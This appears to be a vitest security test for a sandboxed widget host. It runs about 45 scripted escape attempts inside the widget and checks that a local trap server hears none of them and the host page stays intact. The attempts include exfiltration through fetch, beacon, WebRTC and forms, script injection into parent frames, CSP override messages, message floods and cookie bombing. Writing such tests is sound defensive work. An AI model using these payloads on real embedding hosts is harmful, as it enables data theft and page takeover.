// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attempts are code that runs in the widget
import { createSocket, type Socket } from "node:dgram";
import { createServer, type Server } from "node:http";
import { closeServer, listen } from "@suite/dev/ports";
import { fixtureHtml } from "@suite/testing/fixture";
import { afterAll, beforeAll, expect, test } from "vitest";
import { prepareHostPage } from "../testing/host-page.ts";

// What a script in a widget's page tries. TRAP is the address of a server that listens for UDP as well: it must hear of no attempt.
const attempts: readonly (readonly [name: string, script: string])[] = [
  ["fetch", "await fetch(TRAP)"],
  ["XMLHttpRequest", "const r = new XMLHttpRequest(); r.open('GET', TRAP); r.send()"],
  ["beacon", "navigator.sendBeacon(TRAP, 'secret')"],
  ["WebSocket", "new WebSocket(TRAP.replace('http', 'ws'))"],
  ["EventSource", "new EventSource(TRAP)"],
  ["WebTransport", "new WebTransport(TRAP.replace('http:', 'https:'))"],
  ["WebRTC", "await call(window.RTCPeerConnection)"],
  ["WebRTC by its old name", "await call(window.webkitRTCPeerConnection)"],
  ["picture", "new Image().src = TRAP"],
  ["video", "Object.assign(document.createElement('video'), { src: TRAP }).load()"],
  ["script", "add('script', { src: TRAP })"],
  ["module", "await import(TRAP)"],
  ["style sheet", "add('link', { rel: 'stylesheet', href: TRAP })"],
  ["import of a style", "add('style', { textContent: `@import '${TRAP}'` })"],
  ["background", "document.body.style.background = `url(${TRAP})`"],
  ["font", "await new FontFace('x', `url(${TRAP})`).load()"],
  ["prefetch", "add('link', { rel: 'prefetch', href: TRAP })"],
  ["object", "add('object', { data: TRAP })"],
  ["nested frame", "add('iframe', { src: TRAP })"],
  ["nested frame without the policy", "add('iframe', { srcdoc: `<img src='${TRAP}'>` })"],
  ["worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${TRAP}')`])))"],
  ["service worker", "await navigator.serviceWorker.register(location.href)"],
  ["form", "const form = add('form', { action: TRAP, method: 'post' }); form.submit()"],
  ["refresh", "add('meta', { httpEquiv: 'refresh', content: `0; url=${TRAP}` })"],
  ["own address", "location.href = TRAP"],
  ["address of the proxy", "parent.location.href = TRAP"],
  ["address of the host", "top.location.href = TRAP"],
  ["window", "open(TRAP)"],
  ["link in a new tab", "add('a', { href: TRAP, target: '_blank' }).click()"],
  ["download", "add('a', { href: TRAP, download: 'x' }).click()"],
  ["link by the host", "await ask('ui/open-link', { url: 'javascript:fetch(TRAP)' })"],
  [
    "script in the proxy",
    "parent.document.body.append(add('script', { textContent: `location = '${TRAP}'` }))",
  ],
  ["script in the host", "top.document.title = 'Taken over'"],
  [
    "own policy",
    "parent.location.href = location.origin + '/proxy?csp=' + JSON.stringify({ connectDomains: [TRAP] })",
  ],
  [
    "own policy by a message",
    "tell('sandbox-resource-ready', { html: `<img src='${TRAP}'>`, csp: {} })",
  ],
  ["new start", "tell('sandbox-proxy-ready', {})"],
  ["new base", "add('base', { href: TRAP }); await fetch('secret')"],
  ["flood of 5,000 messages", "for (let i = 0; i < 5000; i++) tell('size-changed', { height: i })"],
  ["message of 50 MB", "tell('size-changed', { height: 'x'.repeat(5e7) })"],
  [
    "cookies",
    "for (let i = 0; i < 200; i++) document.cookie = `c${i}=${'x'.repeat(4000)}; path=/`",
  ],
  [
    "cookies for the host",
    "for (let i = 0; i < 200; i++) document.cookie = `d${i}=${'x'.repeat(4000)}; domain=localhost`",
  ],
  ["dialog", "alert('Your session has ended'); print()"],
  ["full screen of the browser", "await document.documentElement.requestFullscreen()"],
  ["camera", "await navigator.mediaDevices.getUserMedia({ video: true })"],
];

const html = fixtureHtml.replace(
  "</main>",
  `</main><script>
  const add = (name, values) => {
    const element = Object.assign(document.createElement(name), values);
    document.body.append(element);
    return element;
  };
  const tell = (name, params) => parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/" + name, params }, "*");
  const call = async (Connection) => {
    const connection = new Connection({ iceServers: [{ urls: TRAP.replace("http://", "stun:") }] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
  };
  window.attempts = {
    ${attempts.map(([name, script]) => `${JSON.stringify(name)}: async () => { ${script} }`).join(",\n")}
  };
  </script>`,
);

declare global {
  interface Window {
    attempts: Record<string, () => Promise<void>>;
    TRAP: string;
  }
}

const opened = prepareHostPage({}, html);
const requests: string[] = [];
let trap: Server;
let udp: Socket;
let address: string;

beforeAll(async () => {
  trap = createServer(({ method, url }, response) => {
    requests.push(`${method} ${url}`);
    response.setHeader("access-control-allow-origin", "*").end();
  });
  const port = await listen(trap, 0);
  address = `http://127.0.0.1:${port}`;
  udp = createSocket("udp4", () => requests.push("UDP"));
  udp.bind(port, "127.0.0.1");
});
afterAll(async () => {
  udp.close();
  await closeServer(trap);
});

const search = "?tool=show-boxes&args={%22color%22:%22blue%22}&run=1";

test("a widget reaches no network, page or window, and the host goes on", async () => {
  const { open, page, widget, host } = opened();
  const show = async () => {
    await open(search);
    await widget().getByText("2 boxes").waitFor();
  };
  await show();
  const before = [page.url(), await page.title()];
  const successful: string[] = [];
  for (const [name] of attempts) {
    // An attempt may leave nothing of the widget.
    const isIntact = await widget().getByRole("heading").isVisible();
    if (!isIntact) await show();
    await widget()
      .getByRole("heading")
      .evaluate(
        (_heading, [attempt, server]) => {
          window.TRAP = server;
          void window.attempts[attempt]?.().catch(() => {});
        },
        [name, address] as const,
      );
    // The page still draws, and the host still serves it with its cookies. What gets through has arrived by then.
    const status = await page.evaluate(async () => {
      for (let frame = 0; frame < 6; frame++)
        await new Promise((resolve) => requestAnimationFrame(resolve));
      return (await fetch("/config")).status;
    });
    const after = [page.url(), await page.title()];
    const isSame =
      status === 200 && page.context().pages().length === 1 && String(after) === String(before);
    if (requests.splice(0).length > 0 || !isSame) successful.push(name);
  }
  expect(successful).toEqual([]);
  expect((await fetch(`${host.url}/healthz`)).status).toBe(200);
});

test("a frame loads once, and only with a ticket of the host", async () => {
  const { open, page, widget, host } = opened();
  const [requested] = await Promise.all([page.waitForRequest(/\/frame\/./), open(search)]);
  await widget().getByText("2 boxes").waitFor();
  const used = new URL(requested.url());
  await expect.poll(() => page.frames().at(-1)?.url()).toBe(`${used.origin}/frame`);
  for (const path of [used.pathname, "/frame", "/frame/none?csp={}"])
    expect((await fetch(new URL(path, host.sandboxUrl))).status).toBe(403);
  const evil = { method: "POST", headers: { origin: "https://evil.example" } };
  expect((await fetch(`${host.url}/frames`, evil)).status).toBe(403);
});
